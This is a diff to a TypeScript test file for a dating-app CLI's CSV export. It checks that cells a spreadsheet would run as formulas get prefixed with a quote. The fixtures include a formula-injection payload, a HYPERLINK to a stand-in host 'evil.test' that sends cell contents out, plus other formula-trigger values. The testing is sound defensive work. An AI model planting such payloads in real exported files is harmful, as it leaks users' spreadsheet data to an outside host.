@@ -5,7 +5,8 @@
 import { execFileSync } from 'node:child_process';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { RunningSandbox } from '@matchmaker/sandbox';
+import { DEMO_PASSWORD, type RunningSandbox } from '@matchmaker/sandbox';
+import { createClient, type UpdateUserInput } from '@matchmaker/sdk';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { cli, envFor, login, memberIds, sandbox, tempDir, writeInput } from './support/cli';
@@ -197,6 +198,16 @@ describe('data on a terminal', () => {
   });
 });
 
+/**
+ * Stores profile values through the API, as the web app or any client could: `users edit` trims text and
+ * takes only known countries and religions, so it cannot plant these.
+ */
+async function plant(id: string, values: UpdateUserInput): Promise<void> {
+  const client = createClient({ baseURL: box.url, locks: null });
+  await client.accounts.login({ email: 'admin@sandbox.test', password: DEMO_PASSWORD });
+  await client.admin.updateUser(id, values);
+}
+
 describe('csv cells that a spreadsheet would run as formulas', () => {
   const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
   let id = '';
@@ -206,25 +217,13 @@ describe('csv cells that a spreadsheet would run as formulas', () => {
       (member) => (box.world.store.data.users[member]?.longitude ?? 0) < 0,
     );
     id = west[1] ?? '';
-    const edited = await cli(
-      [
-        'users',
-        'edit',
-        id,
-        '--first-name',
-        formula,
-        '--last-name',
-        '\t+1',
-        '--occupation',
-        '\r@SUM(1)',
-        '--about',
-        '-2+3',
-        '--city',
-        'Plain',
-      ],
-      { env },
-    );
-    expect(edited.code).toBe(0);
+    await plant(id, {
+      first_name: formula,
+      last_name: '\t+1',
+      occupation: '\r@SUM(1)',
+      about: '-2+3',
+      city: 'Plain',
+    });
   });
 
   it('are prefixed with a single quote in lists and single records; numbers stay numbers', async () => {
@@ -275,9 +274,7 @@ describe('csv cells that a spreadsheet would run as formulas', () => {
       country: '\u2007\uff20x',
       religion: '  Plain, spaced',
     };
-    const flags = Object.entries(values).flatMap(([field, value]) => [`--${field.replace('_', '-')}`, value]);
-    const edited = await cli(['users', 'edit', other, ...flags], { env });
-    expect(edited.code, edited.stderr).toBe(0);
+    await plant(other, values);
     const raw = JSON.parse((await cli(['users', 'get', other, '-o', 'json'], { env })).stdout);
     expect(raw).toMatchObject(values);
     expect(raw.longitude).toBeLessThan(0);
